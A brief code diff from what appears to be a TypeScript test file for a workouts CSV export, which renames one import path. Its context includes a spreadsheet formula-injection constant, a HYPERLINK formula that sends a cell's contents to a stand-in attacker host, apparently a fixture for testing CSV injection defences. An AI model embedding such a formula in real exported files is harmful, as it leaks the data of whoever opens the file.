@@ -46,7 +46,7 @@ import { rowMaker } from '#src/workouts/cohort/rows.ts'
 import { workoutColumns } from '#src/workouts/model/columns.ts'
 import { workoutsCsv } from '#src/workouts/model/csv.ts'
 import { plainWorkoutsCsv } from '#src/workouts/model/plain-csv.ts'
-import { countOnce } from '#src/workouts/model/quality/duplicates.ts'
+import { countOnce } from '#src/workouts/model/quality/count-once.ts'
 import { workout } from '#src/workouts/model/testing.ts'
 
 const FORMULA = '=HYPERLINK("http://evil.example/?"&B9,"open")'
